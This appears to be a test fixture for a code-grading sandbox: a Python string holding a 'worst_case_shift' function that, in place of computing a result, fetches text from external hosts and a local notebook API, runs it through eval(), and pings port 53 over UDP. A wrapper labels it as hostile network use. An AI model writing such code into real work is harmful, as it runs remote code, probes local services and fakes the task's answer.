"""Fetches an answer from the network: by name, by address, from this machine's own services."""

WORST_CASE_SHIFT = """\
# @worst_case_shift
import socket
import urllib.request


def worst_case_shift(w, eps):
    for address in ("http://example.org/answer", "http://198.51.100.7/", "http://127.0.0.1:8888/api/contents"):
        try:
            return eval(urllib.request.urlopen(address, timeout=1).read())
        except OSError:
            pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"what is the worst case?", ("198.51.100.7", 53))
    raise LookupError("nobody answers")
"""


def submission(kit):
    return kit.replacing(
        __name__, __doc__, WORST_CASE_SHIFT, flag="uses the network (urllib.request", hostile=True
    )
